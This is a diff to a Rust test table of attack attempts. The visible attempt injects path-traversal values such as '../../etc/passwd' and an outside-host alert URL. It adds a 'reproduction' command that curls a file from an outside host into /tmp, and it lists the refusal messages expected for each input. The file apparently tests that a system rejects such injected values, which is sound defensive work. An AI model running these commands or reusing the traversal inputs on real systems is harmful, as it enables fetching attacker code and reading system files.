@@ -179,12 +179,15 @@ static ATTEMPTS: [Attempt; 10] = [
             ];
             everywhere(head, &pointers.each_ref().map(String::as_str));
             set(head, "alert", &[("expr", &format!("http://{outside}/"))]);
+            let command = format!("curl -o /tmp/x http://{outside}/");
+            set(head, "reproduction", &[("command", &command)]);
         },
         says: &[
             "`/etc/passwd` is not a snapshot name",
             "there is no deploy `../../etc/passwd` in this run",
             "no log line of this run matches",
             "It is no alert: Prometheus refused",
+            "is no `firedrill request …`.",
         ],
     },
     Attempt {
